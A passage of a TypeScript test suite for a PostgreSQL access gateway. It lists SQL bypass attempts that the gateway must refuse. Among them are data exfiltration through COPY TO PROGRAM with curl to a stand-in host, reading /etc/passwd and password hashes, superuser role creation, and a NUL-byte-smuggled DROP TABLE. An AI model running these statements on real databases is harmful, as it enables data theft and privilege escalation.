// THE adversarial SQL suite: every statement here tries to get past a narrow grant and must be refused by the
// named rule; every legitimate statement below must pass. This file only ever grows: add a row per escape found.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyzeSql } from '../src/adapters/postgres/sql/analyze.ts';
import { createCatalog } from '../src/adapters/postgres/sql/catalog.ts';
import type { Volatility } from '../src/services/policy/sql/catalog.ts';
import type { SqlStatement } from '../src/services/policy/sql/facts.ts';
import { sqlGrant } from '../src/config/schema.ts';
import { decideSql, decideSqlAll } from '../src/services/policy/sql/decide.ts';
import { REFUSED_BUILTINS } from '../src/services/policy/sql/functions.ts';

/** A hand-built upstream: PostgreSQL 15's volatility for every function used below (see sql-catalog.test.ts for the real one). */
const volatilities: Record<string, Volatility> = {
  lower: 'i', length: 'i', count: 'i', max: 'i', sum: 'i', row_number: 'i', string_agg: 'i', array_upper: 'i', regexp_replace: 'i',
  now: 's', to_char: 's', date_trunc: 's', extract: 's', current_schema: 's', version: 's', current_setting: 's', format_type: 's',
  pg_table_is_visible: 's', pg_get_expr: 's', pg_get_indexdef: 's', pg_get_constraintdef: 's', array_to_string: 's',
  pg_get_statisticsobjdef_columns: 's', pg_relation_is_publishable: 's', generate_series: 's', pg_get_userbyid: 's',
  col_description: 's', obj_description: 's', row_to_json: 's', to_jsonb: 's', json_agg: 's', jsonb_build_object: 's',
  table_to_xml: 's', database_to_xml: 's', pg_stat_get_activity: 's',
  random: 'v', gen_random_uuid: 'v', clock_timestamp: 'v', set_config: 'v', nextval: 'v', pg_sleep: 'v', pg_read_file: 'v', lo_export: 'v',
  pg_terminate_backend: 'v', pg_cancel_backend: 'v', query_to_xml: 'v', ts_stat: 'v', pg_notify: 'v', pg_advisory_lock: 'v',
};
/** Every built-in of the refused table, by the name its example calls (STABLE, so only the table refuses them). */
const tableBuiltins = REFUSED_BUILTINS.map((entry) => analyzeSql(entry.example).statements[0].functions.find((f) => f.name.startsWith(entry.name))!.name);
const catalog = createCatalog({
  searchPath: ['public'],
  functions: [
    ...tableBuiltins.map((name) => ({ schema: 'pg_catalog', name, volatility: 's' as Volatility })),
    ...Object.entries(volatilities).map(([name, volatility]) => ({ schema: 'pg_catalog', name, volatility })),
    { schema: 'pg_catalog', name: 'pg_get_indexdef', volatility: 's' },
    { schema: 'pg_catalog', name: 'pg_size_pretty', volatility: 'i' },
    { schema: 'pg_catalog', name: 'rtrim', volatility: 'i' },
    { schema: 'public', name: 'dblink', volatility: 'v' },
    { schema: 'public', name: 'search_docs', volatility: 's' },
    { schema: 'public', name: 'read_secrets', volatility: 's' },
  ],
  relationOids: [
    { oid: 5002, schema: 'public', name: 'documents' }, { oid: 5003, schema: 'public', name: 'secrets' },
    { oid: 5004, schema: 'public', name: 'open_tickets' }, { oid: 5005, schema: 'public', name: 'customer_contacts' },
  ],
  functionOids: [{ oid: 6001, schema: 'public', name: 'read_secrets' }, { oid: 6002, schema: 'public', name: 'search_docs' }],
  catalogRelations: [
    'pg_rewrite', 'pg_views', 'pg_matviews', 'pg_depend', 'pg_stat_user_tables', 'pg_stat_all_tables', 'pg_statio_user_tables',
    'pg_auth_members', 'pg_sequences', 'pg_tables', 'pg_user', 'pg_config',
    'pg_class', 'pg_namespace', 'pg_attribute', 'pg_attrdef', 'pg_collation', 'pg_type', 'pg_index', 'pg_constraint', 'pg_policy',
    'pg_roles', 'pg_statistic_ext', 'pg_publication', 'pg_publication_namespace', 'pg_publication_rel', 'pg_inherits', 'pg_am',
    'pg_proc', 'pg_description', 'pg_settings', 'pg_stats', 'pg_statistic', 'pg_stat_activity', 'pg_authid', 'pg_shadow',
    'pg_largeobject', 'pg_locks', 'pg_user_mappings',
  ],
});

const grants = {
  readonly: sqlGrant.parse({ read: ['documents', 'chunks'], max_rows: 500 }),
  writer: sqlGrant.parse({ read: ['tickets', 'customers'], write: ['tickets'], mask: { 'customers.ssn': 'redact', 'customers.email': 'partial' } }),
  insertOnly: sqlGrant.parse({ read: ['tickets'], insert: ['tickets'] }),
  writeOnly: sqlGrant.parse({ write: ['tickets'] }),
  cursors: sqlGrant.parse({ read: ['documents', 'chunks'], statements: ['cursor'] }),
  viewer: sqlGrant.parse({ read: ['documents', 'open_tickets'], functions: ['search_docs'] }),
  timed: sqlGrant.parse({ read: ['documents'], timeout: '30s' }),
};
type GrantName = keyof typeof grants;

const decide = (grant: GrantName, sql: string, prepared: ReadonlyMap<string, SqlStatement> = new Map()) =>
  decideSqlAll(analyzeSql(sql), { role: grant, connection: 'crm', grant: grants[grant], catalog, prepared });

/** [grant, statement, the rule that must refuse it, why it is a bypass attempt]. */
const bypasses: [GrantName, string, string, string][] = [
  // Writes hidden inside reads
  ['readonly', 'WITH d AS (DELETE FROM documents RETURNING *) SELECT * FROM d', 'sql.relation.write', 'writable CTE'],
  ['readonly', 'WITH a AS (WITH b AS (DELETE FROM documents RETURNING id) SELECT * FROM b) SELECT * FROM a', 'sql.relation.write', 'nested writable CTE'],
  ['readonly', "WITH x AS (SELECT 1), u AS (UPDATE chunks SET body = '' RETURNING 1) SELECT * FROM x", 'sql.relation.write', 'writable CTE in second position, unused'],
  ['readonly', 'WITH i AS (INSERT INTO documents (id) VALUES (1) RETURNING id) SELECT * FROM i', 'sql.relation.write', 'INSERT in a CTE'],
  ['readonly', 'EXPLAIN ANALYZE DELETE FROM documents', 'sql.relation.write', 'EXPLAIN ANALYZE executes the DELETE'],
  ['readonly', "EXPLAIN (ANALYZE, FORMAT JSON) UPDATE documents SET title = ''", 'sql.relation.write', 'EXPLAIN with options'],
  ['readonly', 'PREPARE p AS DELETE FROM documents', 'sql.relation.write', 'PREPARE is judged by what it prepares'],
  ['readonly', 'PREPARE p AS SELECT 1; EXECUTE q', 'sql.execute.unknown', 'EXECUTE of a name never prepared'],
  ['readonly', 'EXECUTE evil', 'sql.execute.unknown', 'EXECUTE of a statement prepared behind the gateway'],
  ['readonly', 'PREPARE p AS SELECT * FROM documents; DEALLOCATE p; EXECUTE p', 'sql.execute.unknown', 'EXECUTE after DEALLOCATE in one query'],
  ['readonly', 'SELECT 1; DROP TABLE documents', 'sql.statement.ddl', 'multi-statement string'],
  ['readonly', 'SELECT * FROM documents; DELETE FROM documents', 'sql.relation.write', 'second statement writes'],
  ['readonly', 'INSERT INTO documents SELECT * FROM documents', 'sql.relation.write', 'INSERT ... SELECT of a granted table'],
  ['readonly', "UPDATE documents SET title = 'x'", 'sql.relation.write', 'plain UPDATE'],
  ['readonly', 'MERGE INTO documents d USING chunks c ON d.id = c.document_id WHEN MATCHED THEN DELETE', 'sql.relation.write', 'MERGE'],
  ['readonly', 'COPY documents FROM STDIN', 'sql.relation.write', 'COPY FROM STDIN inserts'],
  ['readonly', 'SELECT * FROM documents FOR UPDATE', 'sql.relation.write', 'FOR UPDATE locks rows on a read grant'],
  ['readonly', 'SELECT * FROM documents d JOIN chunks c ON c.document_id = d.id FOR SHARE OF d', 'sql.relation.write', 'FOR SHARE OF alias'],
  // Names that are not the granted ones
  ['readonly', 'SELECT * FROM "Documents"', 'sql.relation.read', 'quoted identifier keeps its case: another table'],
  ['readonly', 'SELECT * FROM other.documents', 'sql.relation.read', 'same name in another schema'],
  ['readonly', 'SELECT * FROM pg_temp.documents', 'sql.relation.read', 'temporary table shadowing the name'],
  ['readonly', 'SELECT * FROM secrets', 'sql.relation.read', 'table not granted'],
  ['readonly', 'SELECT * FROM ONLY secrets', 'sql.relation.read', 'ONLY'],
  ['readonly', 'TABLE secrets', 'sql.relation.read', 'TABLE shorthand'],
  ['readonly', 'CREATE TEMP TABLE documents (id int)', 'sql.statement.ddl', 'creating a shadowing temp table'],
  // Ungranted relations reached from every clause
  ['readonly', 'SELECT * FROM documents WHERE id IN (SELECT document_id FROM secrets)', 'sql.relation.read', 'subquery in WHERE ... IN'],
  ['readonly', 'SELECT (SELECT count(*) FROM secrets) FROM documents', 'sql.relation.read', 'scalar subquery in the select list'],
  ['readonly', 'SELECT * FROM documents d, LATERAL (SELECT * FROM secrets s WHERE s.id = d.id) x', 'sql.relation.read', 'LATERAL'],
  ['readonly', 'SELECT * FROM documents JOIN secrets USING (id)', 'sql.relation.read', 'JOIN'],
  ['readonly', 'SELECT * FROM documents WHERE EXISTS (SELECT 1 FROM secrets)', 'sql.relation.read', 'EXISTS'],
  ['readonly', 'SELECT * FROM documents ORDER BY (SELECT max(id) FROM secrets)', 'sql.relation.read', 'subquery in ORDER BY'],
  ['readonly', 'SELECT * FROM documents GROUP BY id HAVING count(*) > (SELECT count(*) FROM secrets)', 'sql.relation.read', 'HAVING'],
  ['readonly', 'VALUES ((SELECT secret FROM secrets LIMIT 1))', 'sql.relation.read', 'VALUES'],
  ['readonly', 'WITH s AS (SELECT * FROM secrets) SELECT * FROM s', 'sql.relation.read', 'CTE'],
  ['readonly', 'WITH documents AS (SELECT * FROM secrets) SELECT * FROM documents', 'sql.relation.read', 'CTE named like a granted table'],
  ['readonly', 'WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets', 'sql.relation.read', 'non-recursive CTE naming itself reads the table'],
  ['readonly', 'SELECT id FROM documents UNION ALL SELECT id FROM secrets', 'sql.relation.read', 'UNION'],
  ['readonly', 'SELECT lower((SELECT secret FROM secrets LIMIT 1))', 'sql.relation.read', 'subquery as a function argument'],
  ['readonly', 'SELECT * FROM documents WHERE id = ANY (ARRAY(SELECT id FROM secrets))', 'sql.relation.read', 'ARRAY subquery'],
  ['readonly', 'SELECT * FROM documents TABLESAMPLE SYSTEM (10), secrets', 'sql.relation.read', 'TABLESAMPLE beside an ungranted table'],
  ['readonly', "SELECT * FROM xmltable('/r' PASSING (SELECT x FROM secrets) COLUMNS a text)", 'sql.relation.read', 'XMLTABLE argument'],
  ['readonly', 'COPY (SELECT * FROM secrets) TO STDOUT', 'sql.relation.read', 'COPY (query) TO STDOUT'],
  ['readonly', 'COPY secrets TO STDOUT', 'sql.relation.read', 'COPY table TO STDOUT'],
  ['readonly', 'DECLARE c CURSOR FOR SELECT * FROM secrets', 'sql.relation.read', 'a cursor is judged by the query it runs'],
  ['readonly', 'DECLARE c CURSOR WITH HOLD FOR SELECT * FROM documents d JOIN secrets s ON s.id = d.id', 'sql.relation.read', 'holdable cursor over a join with an ungranted table'],
  ['readonly', 'DECLARE c CURSOR FOR DELETE FROM documents RETURNING *', 'sql.unknown', 'a cursor over a write does not parse'],
  ['readonly', 'DECLARE c CURSOR FOR WITH d AS (DELETE FROM documents RETURNING *) SELECT * FROM d', 'sql.relation.write', 'a cursor over a writable CTE'],
  ['readonly', "DECLARE c CURSOR FOR SELECT set_config('default_transaction_read_only', 'off', false)", 'sql.function.volatile', 'a cursor over a volatile call'],
  ['writer', 'DECLARE c CURSOR FOR SELECT name FROM customers WHERE ssn IS NOT NULL', 'sql.mask.reference', 'a cursor filtering on a masked column'],
  ['cursors', 'DECLARE c CURSOR FOR SELECT * FROM secrets', 'sql.relation.read', 'cursor over an ungranted table'],
  // Catalog views that expose data, secrets or other sessions
  ['readonly', 'SELECT * FROM pg_stats', 'sql.relation.catalog', 'pg_stats: most common values of every column'],
  ['readonly', 'SELECT * FROM pg_statistic', 'sql.relation.catalog', 'pg_statistic'],
  ['readonly', 'SELECT query FROM pg_stat_activity', 'sql.relation.catalog', "other sessions' queries"],
  ['readonly', 'SELECT rolpassword FROM pg_authid', 'sql.relation.catalog', 'password hashes'],
  ['readonly', 'SELECT * FROM pg_catalog.pg_shadow', 'sql.relation.catalog', 'password hashes, qualified'],
  ['readonly', 'SELECT * FROM pg_largeobject', 'sql.relation.catalog', 'large object contents'],
  ['readonly', 'SELECT * FROM pg_user_mappings', 'sql.relation.catalog', 'foreign server credentials'],
  ['readonly', 'SELECT * FROM information_schema.user_mapping_options', 'sql.relation.catalog', 'foreign server credentials via information_schema'],
  ['readonly', 'SELECT * FROM pg_locks', 'sql.relation.catalog', 'what other sessions lock'],
  // Functions with side effects or that read around grants
  ['readonly', "SELECT set_config('search_path', 'evil', false)", 'sql.function.volatile', 'set_config changes settings'],
  ['readonly', "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)", 'sql.function.volatile', 'set_config, qualified'],
  ['readonly', "SELECT nextval('documents_id_seq')", 'sql.function.volatile', 'nextval writes'],
  ['readonly', 'SELECT pg_sleep(10)', 'sql.function.volatile', 'pg_sleep'],
  ['readonly', "SELECT pg_read_file('/etc/passwd')", 'sql.function.volatile', 'server file read'],
  ['readonly', "SELECT lo_export(1234, '/tmp/x')", 'sql.function.volatile', 'server file write'],
  ['readonly', 'SELECT pg_terminate_backend(123)', 'sql.function.volatile', 'kill another session'],
  ['readonly', 'SELECT pg_cancel_backend(123)', 'sql.function.volatile', 'cancel another session'],
  ['readonly', "SELECT pg_notify('ch', 'x')", 'sql.function.volatile', 'pg_notify'],
  ['readonly', 'SELECT pg_advisory_lock(1)', 'sql.function.volatile', 'advisory locks'],
  ['readonly', 'SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM documents', 'sql.function.volatile', 'volatile call in an aggregate FILTER'],
  ['readonly', "SELECT row_number() OVER (ORDER BY nextval('s')) FROM documents", 'sql.function.volatile', 'volatile call in a window'],
  ['readonly', "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", 'sql.function.user', 'dblink (an extension function)'],
  ['readonly', "SELECT public.search_docs('x')", 'sql.function.user', 'a stable user function can read anything'],
  ['readonly', "SELECT * FROM documents ORDER BY no_such_function()", 'sql.function.unknown', 'function the catalog does not know'],
  ['readonly', "SELECT query_to_xml('delete from documents returning *', true, false, '')", 'sql.function.bypass', 'query_to_xml runs SQL text'],
  ['writer', "SELECT table_to_xml('customers', true, false, '')", 'sql.function.bypass', 'table_to_xml reads a table by name, unmasked'],
  ['readonly', "SELECT database_to_xml(true, false, '')", 'sql.function.bypass', 'database_to_xml reads everything'],
  ['readonly', "SELECT * FROM ts_stat('SELECT body::tsvector FROM secrets')", 'sql.function.bypass', 'ts_stat runs SQL text'],
  ['readonly', 'SELECT pg_stat_get_activity(NULL)', 'sql.function.sessions', "other sessions' queries through a stable function"],
  // Statements refused unless their kind is granted
  ['readonly', 'SELECT * INTO stolen FROM documents', 'sql.statement.select_into', 'SELECT INTO'],
  ['readonly', 'CREATE TABLE stolen AS SELECT * FROM documents', 'sql.statement.select_into', 'CREATE TABLE AS'],
  ['readonly', 'CREATE MATERIALIZED VIEW mv AS SELECT * FROM documents', 'sql.statement.ddl', 'materialized view'],
  ['readonly', "COPY documents TO PROGRAM 'curl -d @- evil.example'", 'sql.statement.copy_file', 'COPY TO PROGRAM'],
  ['readonly', "COPY documents FROM '/etc/passwd'", 'sql.statement.copy_file', 'COPY FROM a server file'],
  ['readonly', "COPY (SELECT * FROM documents) TO '/tmp/out'", 'sql.statement.copy_file', 'COPY (query) TO a server file'],
  ['readonly', 'DO $$ BEGIN DELETE FROM documents; END $$', 'sql.statement.do', 'DO block'],
  ['readonly', 'CALL purge_documents()', 'sql.statement.call', 'CALL'],
  ['readonly', 'LOCK documents IN ACCESS EXCLUSIVE MODE', 'sql.statement.lock', 'LOCK'],
  ['readonly', 'TRUNCATE documents', 'sql.statement.truncate', 'TRUNCATE'],
  ['writer', 'TRUNCATE tickets', 'sql.statement.truncate', 'TRUNCATE with a delete grant'],
  ['readonly', "NOTIFY ch, 'x'", 'sql.statement.notify', 'NOTIFY'],
  ['readonly', 'LISTEN ch', 'sql.statement.listen', 'LISTEN'],
  ['readonly', "ALTER SYSTEM SET log_statement = 'none'", 'sql.statement.alter_system', 'ALTER SYSTEM'],
  ['readonly', 'GRANT SELECT ON secrets TO PUBLIC', 'sql.statement.grant', 'GRANT'],
  ['readonly', 'CREATE ROLE evil SUPERUSER', 'sql.statement.grant', 'CREATE ROLE'],
  ['readonly', "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", 'sql.statement.ddl', 'CREATE FUNCTION'],
  ['readonly', "LOAD 'evil.so'", 'sql.statement.ddl', 'LOAD a shared library'],
  ['readonly', 'VACUUM documents', 'sql.statement.maintenance', 'VACUUM'],
  ['readonly', 'CLUSTER documents', 'sql.statement.maintenance', 'CLUSTER'],
  ['readonly', 'REFRESH MATERIALIZED VIEW mv', 'sql.statement.maintenance', 'REFRESH MATERIALIZED VIEW'],
  ['readonly', 'CHECKPOINT', 'sql.statement.maintenance', 'CHECKPOINT'],
  ['readonly', "PREPARE TRANSACTION 'x'", 'sql.statement.two_phase', 'two-phase commit outlives the session'],
  // Session state that widens access
  ['readonly', 'SET search_path = evil, public', 'sql.statement.set_search_path', 'search_path changes what names mean'],
  ['readonly', "SET SCHEMA 'evil'", 'sql.statement.set_search_path', 'SET SCHEMA'],
  ['readonly', 'RESET search_path', 'sql.statement.set_search_path', 'RESET search_path'],
  ['readonly', 'SET ROLE postgres', 'sql.statement.set_role', 'SET ROLE'],
  ['readonly', 'SET SESSION AUTHORIZATION postgres', 'sql.statement.set_role', 'SET SESSION AUTHORIZATION'],
  ['readonly', 'RESET ROLE', 'sql.statement.set_role', 'RESET ROLE returns to the login role'],
  ['readonly', 'DISCARD ALL', 'sql.statement.set_role', 'DISCARD ALL runs SET SESSION AUTHORIZATION DEFAULT'],
  ['readonly', "SET app.tenant_id = '42'", 'sql.statement.set', 'custom settings feed row-level security'],
  ['readonly', 'SET session_replication_role = replica', 'sql.statement.set', 'disables triggers'],
  ['readonly', 'BEGIN READ WRITE', 'sql.session.read_write', 'BEGIN READ WRITE'],
  ['readonly', 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE', 'sql.session.read_write', 'START TRANSACTION ... READ WRITE'],
  ['readonly', 'SET TRANSACTION READ WRITE', 'sql.session.read_write', 'SET TRANSACTION READ WRITE'],
  ['readonly', 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'sql.session.read_write', 'session characteristics'],
  ['readonly', 'SET default_transaction_read_only = off', 'sql.session.read_write', 'turn the backstop off'],
  ['readonly', 'SET transaction_read_only = false', 'sql.session.read_write', 'turn this transaction read-write'],
  ['readonly', 'RESET default_transaction_read_only', 'sql.session.read_write', 'reset the backstop'],
  ['readonly', 'SET standard_conforming_strings = off', 'sql.unknown', 'the parser would read strings differently'],
  ['readonly', "SET client_encoding = 'SJIS'", 'sql.unknown', 'an encoding whose multi-byte characters contain backslashes'],
  // Unparseable input
  ['readonly', 'SELEC * FRM documents', 'sql.unknown', 'garbage'],
  ['readonly', '', 'sql.unknown', 'empty string'],
  ['readonly', '  -- only a comment', 'sql.unknown', 'comment only'],
  ['readonly', 'SELECT 1\0; DROP TABLE documents', 'sql.unknown', 'NUL byte hiding a second statement'],
  // A narrow write grant
  ['writer', 'DELETE FROM customers', 'sql.relation.write', 'write to a read-only table'],
  ['writer', "INSERT INTO customers (name) VALUES ('x')", 'sql.relation.write', 'insert into a read-only table'],
  ['writer', "UPDATE customers SET name = 'x'", 'sql.relation.write', 'update a read-only table'],
  ['writer', 'MERGE INTO customers c USING tickets t ON t.customer_id = c.id WHEN MATCHED THEN UPDATE SET name = t.title', 'sql.relation.write', 'MERGE into a read-only table'],
  ['insertOnly', "INSERT INTO tickets (id, title) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET title = 'y'", 'sql.relation.write', 'ON CONFLICT DO UPDATE with an insert-only grant'],
  ['insertOnly', 'MERGE INTO tickets t USING (VALUES (1)) v(id) ON t.id = v.id WHEN MATCHED THEN DELETE', 'sql.relation.write', 'MERGE DELETE with an insert-only grant'],
  ['writeOnly', 'DELETE FROM tickets WHERE id = 1 RETURNING *', 'sql.relation.read', 'RETURNING reads rows the grant cannot read'],
  ['writeOnly', "UPDATE tickets SET title = 'x' WHERE title LIKE 'a%'", 'sql.relation.read', 'a filter reads rows, as in PostgreSQL'],
  // Masked columns leaking through expressions
  ['writer', "SELECT id FROM customers WHERE ssn LIKE '1%'", 'sql.mask.reference', 'filter on a masked column'],
  ['writer', 'SELECT id, email FROM customers ORDER BY ssn', 'sql.mask.reference', 'sort by a masked column'],
  ['writer', 'SELECT ssn FROM customers ORDER BY 1', 'sql.mask.reference', 'sort by output position'],
  ['writer', 'SELECT ssn AS s FROM customers ORDER BY s', 'sql.mask.reference', 'sort by output alias'],
  ['writer', 'SELECT length(ssn) FROM customers', 'sql.mask.reference', 'function of a masked column'],
  ['writer', "SELECT ssn || '' FROM customers", 'sql.mask.reference', 'operator on a masked column'],
  ['writer', 'SELECT ssn::text FROM customers', 'sql.mask.reference', 'cast'],
  ['writer', 'SELECT max(ssn) FROM customers', 'sql.mask.reference', 'aggregate'],
  ['writer', 'SELECT email FROM customers GROUP BY email', 'sql.mask.reference', 'GROUP BY'],
  ['writer', 'SELECT DISTINCT ssn FROM customers', 'sql.mask.reference', 'DISTINCT'],
  ['writer', "SELECT ssn FROM customers UNION SELECT 'x'", 'sql.mask.reference', 'UNION'],
  ['writer', 'WITH c AS (SELECT ssn FROM customers) SELECT * FROM c', 'sql.mask.reference', 'through a CTE'],
  ['writer', 'SELECT (SELECT ssn FROM customers LIMIT 1)', 'sql.mask.reference', 'scalar subquery'],
  ['writer', "SELECT t.* FROM tickets t WHERE t.customer_id IN (SELECT id FROM customers WHERE email LIKE '%@x.com')", 'sql.mask.reference', 'filter in a subquery'],
  ['writer', 'SELECT t.id FROM customers c JOIN tickets t ON t.title = c.email', 'sql.mask.reference', 'JOIN ON'],
  ['writer', 'SELECT a.id FROM customers a JOIN customers b USING (ssn)', 'sql.mask.reference', 'JOIN USING'],
  ['writer', "SELECT count(*) FROM customers WHERE public.customers.ssn = '123'", 'sql.mask.reference', 'schema-qualified column'],
  ['writer', "SELECT email FROM customers c WHERE EXISTS (SELECT 1 WHERE c.ssn > '5')", 'sql.mask.reference', 'correlated reference'],
  ['writer', 'SELECT ssn FROM customers WINDOW w AS (ORDER BY email)', 'sql.mask.reference', 'window ORDER BY'],
  ['writer', 'INSERT INTO tickets (title) SELECT ssn FROM customers', 'sql.mask.reference', 'copy masked values into a readable table'],
  ['writer', 'UPDATE tickets SET title = c.ssn FROM customers c WHERE c.id = tickets.customer_id', 'sql.mask.reference', 'UPDATE ... FROM'],
  ['writer', "DELETE FROM tickets USING customers c WHERE c.ssn = '1' AND c.id = tickets.customer_id", 'sql.mask.reference', 'DELETE ... USING'],
  ['writer', 'SELECT * FROM tickets t, LATERAL (SELECT c.ssn FROM customers c WHERE c.id = t.customer_id) x', 'sql.mask.reference', 'LATERAL'],
  ['writer', "SELECT * FROM customers TABLESAMPLE BERNOULLI (50) WHERE ssn > ''", 'sql.mask.reference', 'TABLESAMPLE'],
  ['writer', 'SELECT length(s) FROM customers AS c(i, n, e, s)', 'sql.mask.reference', 'column aliases rename the masked column'],
  ['writer', 'SELECT length(j.ssn) FROM (customers c JOIN tickets t ON t.customer_id = c.id) AS j', 'sql.mask.reference', 'join alias qualifies the masked column'],
  ['writer', 'SELECT j FROM (customers c JOIN tickets t ON t.customer_id = c.id) AS j', 'sql.mask.whole_row', 'whole row of a join alias'],
  ['writer', 'SELECT ssn FROM customers c ORDER BY c', 'sql.mask.whole_row', 'sort by the whole row'],
  ['writer', 'SELECT c FROM customers c', 'sql.mask.whole_row', 'whole-row reference'],
  ['writer', 'SELECT row_to_json(c) FROM customers c', 'sql.mask.whole_row', 'row_to_json of the row'],
  ['writer', 'SELECT (c).ssn FROM customers c', 'sql.mask.whole_row', 'field of the whole row'],
  ['writer', 'SELECT to_jsonb(customers.*) FROM customers', 'sql.mask.star', 'to_jsonb(t.*)'],
  ['writer', 'SELECT json_agg(c.*) FROM customers c', 'sql.mask.star', 'json_agg(c.*)'],
  ['writer', 'SELECT * FROM (SELECT * FROM customers) s', 'sql.mask.star', '* in a subquery'],
  ['writer', 'SELECT * FROM customers NATURAL JOIN tickets', 'sql.mask.star', 'NATURAL JOIN compares every column'],
  ['writer', 'COPY customers TO STDOUT', 'sql.mask.copy', 'COPY output has no column descriptions to mask by'],
  ['writer', 'COPY (SELECT ssn FROM customers) TO STDOUT', 'sql.mask.copy', 'COPY (query)'],
  ['writer', 'CREATE TABLE t AS SELECT ssn FROM customers', 'sql.statement.select_into', 'copy masked values into a new table'],
  // Volatility is not side-effect freedom: STABLE functions that write
  ['readonly', 'SELECT txid_current()', 'sql.function.side-effect', 'STABLE, yet assigns a transaction id'],
  ['readonly', 'SELECT pg_current_xact_id()', 'sql.function.side-effect', 'STABLE, yet assigns a transaction id'],
  ['readonly', 'SELECT * FROM documents WHERE id::text <> pg_catalog.txid_current()::text', 'sql.function.side-effect', 'hidden in a filter, qualified'],
  // Definitions of objects the grant does not name
  ['readonly', "SELECT pg_get_viewdef('customer_contacts'::regclass)", 'sql.function.definition', 'view source by name'],
  ['readonly', 'SELECT pg_get_viewdef(5005)', 'sql.function.definition', 'view source by OID'],
  ['readonly', 'SELECT pg_get_viewdef(c.oid) FROM pg_class c', 'sql.function.definition', 'every view\'s source'],
  ['viewer', 'SELECT pg_get_viewdef(c.oid) FROM pg_class c WHERE c.oid = 5004 OR true', 'sql.function.definition', 'a pin inside an OR pins nothing'],
  ['viewer', 'SELECT pg_get_viewdef(c2.oid) FROM pg_class c, pg_class c2 WHERE c.oid = 5004', 'sql.function.definition', 'the pinned alias is not the one asked about'],
  ['viewer', 'SELECT pg_get_ruledef(d.objid) FROM pg_depend d WHERE d.refobjid = 5004', 'sql.function.definition', 'rules of views that depend on a granted relation'],
  ['viewer', 'SELECT pg_get_ruledef(r.oid) FROM pg_rewrite r WHERE r.ev_class = 5005', 'sql.function.definition', 'rules of an ungranted view'],
  ['viewer', 'SELECT pg_get_ruledef(r.oid) FROM pg_rewrite r WHERE EXISTS (SELECT 1 FROM pg_rewrite r WHERE r.ev_class = 5004)', 'sql.function.definition', 'a pin in another query level'],
  ['viewer', 'SELECT pg_get_ruledef(r.oid) FROM pg_rewrite r WHERE r.oid = 5004', 'sql.function.definition', 'a rule pinned by its own OID, not its relation'],
  ['readonly', "SELECT pg_get_functiondef('read_secrets'::regproc)", 'sql.function.definition', 'function source by name'],
  ['readonly', 'SELECT pg_get_functiondef(6001)', 'sql.function.definition', 'function source by OID'],
  ['readonly', "SELECT prosrc FROM pg_proc WHERE proname = 'read_secrets'", 'sql.relation.catalog_column', 'function source from pg_proc'],
  ['readonly', 'SELECT p.* FROM pg_proc p', 'sql.relation.catalog_column', 'pg_proc.* carries prosrc'],
  ['readonly', 'SELECT row_to_json(p) FROM pg_proc p', 'sql.relation.catalog_column', 'a whole pg_proc row'],
  ['readonly', 'COPY pg_proc TO STDOUT', 'sql.relation.catalog_column', 'COPY of pg_proc'],
  ['readonly', 'SELECT definition FROM pg_views', 'sql.relation.catalog_column', 'view source from pg_views'],
  ['readonly', 'SELECT * FROM pg_matviews', 'sql.relation.catalog_column', 'materialized view source'],
  ['readonly', 'SELECT view_definition FROM information_schema.views', 'sql.relation.catalog_column', 'view source from information_schema'],
  ['readonly', 'SELECT routine_definition FROM information_schema.routines', 'sql.relation.catalog_column', 'function source from information_schema'],
  ['readonly', 'SELECT ev_action FROM pg_rewrite', 'sql.relation.catalog_column', 'rules as node trees'],
  // Statistics of relations the grant does not name
  ['readonly', 'SELECT * FROM pg_stat_user_tables', 'sql.relation.catalog', 'row counts and scans of every table'],
  ['readonly', 'SELECT n_live_tup FROM pg_stat_all_tables', 'sql.relation.catalog', 'live row counts'],
  ['readonly', 'SELECT * FROM pg_statio_user_tables', 'sql.relation.catalog', 'I/O statistics'],
  ['readonly', "SELECT pg_relation_size('secrets')", 'sql.function.statistics', 'size of an ungranted table'],
  ['readonly', 'SELECT pg_size_pretty(pg_table_size(c.oid)) FROM pg_class c', 'sql.function.statistics', 'sizes of every table (psql \\dt+)'],
  ['readonly', "SELECT pg_stat_get_live_tuples('secrets'::regclass)", 'sql.function.statistics', 'row count of an ungranted table'],
  ['readonly', "SELECT reltuples FROM pg_class WHERE relname = 'secrets'", 'sql.relation.catalog_column', 'row-count estimate'],
  ['readonly', 'SELECT last_value FROM pg_sequences', 'sql.relation.catalog_column', 'sequence positions count rows'],
  // Settings, roles and the server
  ['readonly', "SELECT current_setting('data_directory')", 'sql.function.settings', 'a server path'],
  ['readonly', "SELECT current_setting(name) FROM (VALUES ('config_file')) v(name)", 'sql.function.settings', 'a setting name not known before it runs'],
  ['readonly', 'SHOW data_directory', 'sql.statement.settings', 'SHOW of a server path'],
  ['readonly', 'SHOW ALL', 'sql.statement.settings', 'every setting'],
  ['readonly', 'SELECT * FROM pg_settings', 'sql.relation.catalog', 'every setting as a table'],
  ['readonly', 'SELECT * FROM pg_config', 'sql.relation.catalog', 'the build configuration'],
  ['readonly', 'SELECT rolconfig FROM pg_roles', 'sql.relation.catalog_column', 'per-role settings'],
  ['readonly', 'SELECT * FROM pg_auth_members', 'sql.relation.catalog', 'role memberships'],
  ['readonly', 'SELECT inet_server_addr(), inet_server_port()', 'sql.function.server', 'the upstream\'s address'],
  // A grant timeout may be lowered, never raised or cleared
  ['timed', 'SET statement_timeout = 0', 'sql.session.timeout', 'clear the grant\'s statement timeout'],
  ['timed', "SET statement_timeout = '1h'", 'sql.session.timeout', 'raise it'],
  ['timed', "SET LOCAL statement_timeout TO '31s'", 'sql.session.timeout', 'raise it for one transaction'],
  ['timed', "SET statement_timeout = '400us'", 'sql.session.timeout', 'PostgreSQL rounds it to 0: off'],
  ['timed', "SET statement_timeout = '0.4'", 'sql.session.timeout', 'a fraction of a millisecond rounds to 0: off'],
  ['timed', "SET statement_timeout = 'forever'", 'sql.session.timeout', 'a value that does not read as a duration'],
];

describe('the reviewed table of built-ins refused by default: every entry is refused', () => {
  for (const entry of REFUSED_BUILTINS) {
    test(`${entry.name}${entry.family ? '*' : ''} (${entry.risk}): ${entry.example}`, () => {
